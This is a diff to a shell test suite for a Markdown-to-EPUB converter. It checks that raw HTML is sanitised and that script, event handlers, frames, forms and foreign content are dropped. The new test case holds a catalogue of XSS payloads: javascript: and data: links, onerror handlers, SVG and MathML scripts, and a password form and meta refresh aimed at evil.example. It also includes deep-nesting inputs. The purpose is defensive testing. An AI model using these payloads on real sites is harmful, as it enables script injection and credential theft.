@@ -27,7 +27,8 @@ print(f'{len(names)} documents, the largest {max(sizes)} bytes, the first {sizes
 PY
 }
 
-# Raw HTML: shown as text (escaped by pugixml), never interpreted; comments dropped.
+# Raw HTML: parsed as HTML5, kept where it is safe, written through pugixml; script, handlers,
+# frames, styles, forms and foreign content never reach the book; comments dropped.
 case_raw_html() {
 cat >raw.md <<'MD'
 ---
@@ -47,13 +48,53 @@ Inline <img src=x onerror="alert(1)"> and <a href="javascript:alert(1)">a</a>, <
 
 <!-- a comment -->
 MD
-book raw-html 'raw HTML is shown as text' raw.md
+book raw-html 'raw HTML: script left out' raw.md
 x=$(xhtml raw-html.epub)
-grep -qF '&lt;script&gt;alert(1)&lt;/script&gt;' <<<"$x" || fail "raw-html: script not shown as text"
-grep -qF '&lt;div onclick="steal()"&gt;click &lt;b&gt;me, unclosed' <<<"$x" || fail "raw-html: div"
-grep -qF '&lt;img src=x onerror="alert(1)"&gt;' <<<"$x" || fail "raw-html: inline"
+grep -q 'alert' <<<"$x" && fail "raw-html: script text kept"
+# Left open, the div holds what follows it, as in a browser.
+grep -qF '<div>click <b>me, unclosed</b><p><a href="https://evil.example">https://evil.example</a></p>' <<<"$x" ||
+    fail "raw-html: div and iframe: $x"
+grep -qF '<span>a</span>, <b>unclosed.</b>' <<<"$x" || fail "raw-html: inline"
 grep -q 'a comment' <<<"$x" && fail "raw-html: comment kept"
-pass "raw-html: script, handlers, iframe, style and unclosed tags are text"
+pass "raw-html: script, handlers, iframe and style left out; unclosed tags closed"
+}
+
+# The raw-HTML attack catalogue: none of it becomes active content, none of it crashes, and the
+# book is valid.
+case_raw_html_attacks() {
+{
+printf -- '---\ntitle: Attacks\nlang: en\n---\n\n'
+printf '<a href="JaVaScRiPt:alert(1)">js</a> <a href=" javascript:alert(1)">sp</a> <a href="data:text/html;base64,PHNjcmlwdD4=">data</a> <a href="vbscript:x">vb</a>\n\n'
+printf '<img src="x.png" onerror="alert(1)" onload=alert(2)> <img src="data:image/png;base64,AAAA"> <img src="javascript:alert(1)" alt="js image">\n\n'
+printf '<base href="https://evil.example/">\n\n<meta http-equiv="refresh" content="0;url=https://evil.example/">\n\n'
+printf '<svg onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text>svg</text></a></svg>\n\n'
+printf '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">m</maction></math>\n\n'
+printf '<form action="https://evil.example/"><input name=password type=password><button formaction="javascript:alert(1)">go</button></form>\n\n'
+printf '<div style="background:url(javascript:alert(1))" onmouseover="alert(1)">styled</div>\n\n'
+printf '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">\n\n'
+printf '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>\n\n'
+printf '<noscript><p>fallback</p></noscript><template><script>alert(1)</script></template>\n\n'
+printf 'inline <svg><circle onclick="alert(1)"/></svg> and <script>alert(1)</script> text\n\n'
+printf '<table><tr><td><table><tr><td><form><tr><td>cell'
+printf '\n\n<details><summary onclick="alert(1)">s</summary><p>d</p>\n\n'
+printf '<p><b><i><u><s><sup>unclosed everything\n\n'
+for _ in $(seq 100000); do printf '<div>\n'; done
+printf 'deep\n\n'
+for _ in $(seq 2000); do printf '<b>'; done
+printf 'many inline\n\n'
+for _ in $(seq 5000); do printf '<div>\n\n'; done
+printf 'blocks\n'
+} >attacks.md
+measure "$OCTAVO" attacks.md -o attacks.epub
+[ "$rc" = 0 ] || fail "raw-html attacks: exit $rc: $(head -c 300 "$WORK/err")"
+[ "$ms" -lt 20000 ] || fail "raw-html attacks: took $ms ms"
+[ "$kb" -lt 400000 ] || fail "raw-html attacks: $kb KB"
+check_book attacks.epub
+no_script attacks.epub
+x=$(xhtml attacks.epub)
+grep -qi 'alert\|javascript\|evil.example' <<<"$x" && fail "raw-html attacks: $(grep -oi '.\{40\}\(alert\|javascript\|evil.example\).\{20\}' <<<"$x" | head -3)"
+grep -q 'nested more than 512' "$WORK/err" || fail "raw-html attacks: deep nesting not reported"
+pass "raw-html attacks: no script, handler, javascript: or data: link, base, meta, form, SVG or MathML; bounded nesting"
 }
 
 # Links: only http(s), mailto, ftp, tel and anchors that exist; the rest unwrapped with a warning.
@@ -97,9 +138,10 @@ MD
 book notes "link to 'javascript:alert\(1\)' removed" notes.md
 x=$(xhtml notes.epub)
 grep -q '<h1 id="a001-title">Notes<a id="a001-fnref1" href="#a001-fn1"' <<<"$x" || fail "notes: the title's note"
-grep -qF '&lt;script&gt;alert(1)&lt;/script&gt; and <span>js</span> in an inline note.' <<<"$x" || fail "notes: inline note"
+grep -qF '</a>  and <span>js</span> in an inline note.' <<<"$x" && ! grep -q 'alert' <<<"$x" ||
+    fail "notes: inline note"
 grep -qF 'and ^[unclosed.' <<<"$x" || fail "notes: an unclosed inline note is text"
-pass "notes: the title's note kept, script in an inline note is text"
+pass "notes: the title's note kept, script in an inline note left out"
 }
 
 # Link URLs that are not valid URLs: unwrapped with a warning; an internationalised domain name
